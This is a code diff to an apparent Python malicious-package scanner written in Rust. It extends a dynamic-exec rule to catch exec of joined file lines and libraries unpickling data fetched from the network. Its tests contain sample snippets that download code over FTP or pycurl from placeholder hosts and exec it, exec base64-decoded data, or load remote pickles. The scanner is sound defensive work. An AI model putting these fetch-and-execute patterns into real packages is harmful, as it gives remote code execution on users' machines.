@@ -1,7 +1,7 @@
 //! WH110 dynamic-exec: exec/eval/compile of code that is not a plain literal.
 
 use ruff_python_ast::visitor::{Visitor, walk_expr};
-use ruff_python_ast::{Expr, ExprCall, Stmt};
+use ruff_python_ast::{self as ast, Expr, ExprCall, Stmt};
 use ruff_text_size::Ranged;
 
 use crate::finding::{Category, ExecContext, Rule};
@@ -177,6 +177,18 @@ pub(crate) fn is_file_read(checker: &Checker, expr: &Expr) -> bool {
     {
         return true;
     }
+    // `'\n'.join(line for line in f if line.startswith('VERSION'))`: lines of a file, joined.
+    if let Expr::Attribute(attribute) = &*call.func
+        && attribute.attr.as_str() == "join"
+        && matches!(&*attribute.value, Expr::StringLiteral(_))
+        && let [
+            Expr::Generator(ast::ExprGenerator { generators, .. })
+            | Expr::ListComp(ast::ExprListComp { generators, .. }),
+        ] = call.arguments.args.as_ref()
+        && let [generator] = generators.as_slice()
+    {
+        return checker.iterates_file_lines(&generator.iter);
+    }
     let Some(q) = checker.qualname(&call.func) else {
         return false;
     };
@@ -337,6 +349,7 @@ fn check_unpickle(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             "pickle" | "cPickle" | "_pickle" | "dill" | "cloudpickle"
         )
     {
+        check_unpickling_loader(checker, call, qualname);
         return;
     }
     let Some(argument) = call.arguments.args.first() else {
@@ -396,6 +409,68 @@ fn check_unpickle(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             vec!["exec", "pickle-remote"],
         );
     }
+}
+
+/// Library loaders that unpickle what they read: `joblib.load`, `torch.load` (unless
+/// `weights_only=True`), `numpy.load(…, allow_pickle=True)`, `pandas.read_pickle`.
+fn unpickles_through_library(call: &ExprCall, qualname: &str) -> bool {
+    let flag = |name: &str| {
+        super::keyword(call, name).is_some_and(|v| matches!(v, Expr::BooleanLiteral(b) if b.value))
+    };
+    match qualname {
+        "joblib.load" | "pandas.read_pickle" | "sklearn.externals.joblib.load" => true,
+        "torch.load" => !flag("weights_only"),
+        "numpy.load" => flag("allow_pickle"),
+        _ => false,
+    }
+}
+
+/// `pandas.read_pickle('https://…')`, `torch.load(io.BytesIO(requests.get(url).content))`:
+/// a model or table unpickled from the network runs whatever callables the server names.
+/// Loading a local file is what these libraries are for, and is left alone.
+fn check_unpickling_loader(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    if !unpickles_through_library(call, qualname) {
+        return;
+    }
+    let Some(argument) = call
+        .arguments
+        .args
+        .first()
+        .or_else(|| super::keyword(call, "filepath_or_buffer"))
+        .or_else(|| super::keyword(call, "f"))
+    else {
+        return;
+    };
+    // The data, the response object itself (`joblib.load(urlopen(url))` reads it), or the
+    // address (`read_pickle` fetches URLs).
+    let origin = if let Some(source) = checker.network_source_in(argument) {
+        source.label
+    } else if let Some((label, SourceKind::Network)) =
+        super::sources::response_object(checker, argument)
+    {
+        label
+    } else {
+        match checker.fold(argument).and_then(|v| v.as_text()) {
+            Some(url) if url.starts_with("http://") || url.starts_with("https://") => {
+                crate::text::shorten(&url, 100)
+            }
+            _ => return,
+        }
+    };
+    let severity = match checker.context() {
+        ExecContext::Install | ExecContext::Import => 0.85,
+        ExecContext::Runtime => 0.3,
+        ExecContext::TestOrDocs => 0.1,
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "{qualname} unpickles data received from the network ({origin}), which runs any callable the sender names"
+        ),
+        severity,
+        vec!["exec", "pickle-remote"],
+    );
 }
 
 /// The argument of a call that runs or imports a Python file by path: `runpy.run_path(p)`,
@@ -932,6 +1007,15 @@ mod tests {
     }
 
     #[test]
+    fn version_lines_of_a_file_joined_and_run_are_a_file_read() {
+        // influxdb-client's setup.py runs the `VERSION = …` line of its version module.
+        let code = "meta = {}\nwith open('pkg/version.py') as f:\n    exec('\\n'.join(line for line in f if line.startswith('VERSION')), meta)\n";
+        assert!(max_severity("setup.py", code, "WH110") <= 0.05);
+        let computed = "import sys\nexec('\\n'.join(part for part in sys.argv[1:]))\n";
+        assert!(max_severity("setup.py", computed, "WH110") >= 0.3);
+    }
+
+    #[test]
     fn a_pickle_round_trip_is_a_copy_not_hidden_code() {
         // IPython's autoreload deep-copies a syntax tree this way before compiling it.
         let code = "import pickle\ndef patch(tree, env):\n    trees = [tree]\n    trees.insert(0, pickle.loads(pickle.dumps(tree)))\n    for t in trees:\n        exec(compile(t, 'f', 'exec'), env)\n";
@@ -939,9 +1023,33 @@ mod tests {
     }
 
     #[test]
+    fn models_and_tables_unpickled_from_the_network_run_the_senders_code() {
+        let url = "import pandas as pd\ncfg = pd.read_pickle('https://x.example.invalid/d.pkl')\n";
+        assert!(max_severity("p/pkg/__init__.py", url, "WH110") >= 0.8);
+        let fetched = "import io, requests, torch\nr = requests.get('https://x.example.invalid/m.pt')\nm = torch.load(io.BytesIO(r.content))\n";
+        assert!(max_severity("p/pkg/__init__.py", fetched, "WH110") >= 0.8);
+        let opened = "import joblib\nfrom urllib.request import urlopen\nm = joblib.load(urlopen('http://x.example.invalid/m'))\n";
+        assert!(max_severity("p/pkg/__init__.py", opened, "WH110") >= 0.8);
+        // Local files, tensors only, and arrays without pickles are what the loaders are for.
+        let local = "import joblib, torch, numpy as np\nm = joblib.load('model.joblib')\nw = torch.load(io.BytesIO(requests.get(u).content), weights_only=True)\na = np.load(io.BytesIO(requests.get(u).content))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", local, "WH110"), 0.0);
+    }
+
+    #[test]
     fn decoding_inside_comprehensions_counts() {
         let code = "import base64;exec(''.join([y[0] for x in [x for x in base64.b64decode(d)] for y in x]))\n";
         assert!(max_severity("p/pkg/check.py", code, "WH110") >= 0.9);
+    }
+
+    #[test]
+    fn code_a_client_downloads_into_a_buffer_is_remote_code() {
+        let ftp = "import ftplib, io\nf = ftplib.FTP('203.0.113.4')\nb = io.BytesIO()\nf.retrbinary('RETR s.py', b.write)\nexec(b.getvalue().decode())\n";
+        assert!(max_severity("p/pkg/__init__.py", ftp, "WH110") >= 0.9);
+        let curl = "import pycurl, io\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://x.invalid/p')\nc.setopt(pycurl.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())\n";
+        assert!(max_severity("p/pkg/__init__.py", curl, "WH110") >= 0.9);
+        // A listing printed, not run.
+        let listing = "import ftplib\nf = ftplib.FTP('203.0.113.4')\nlines = []\nf.retrlines('LIST', lines.append)\nprint(lines)\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", listing, "WH110"), 0.0);
     }
 
     #[test]
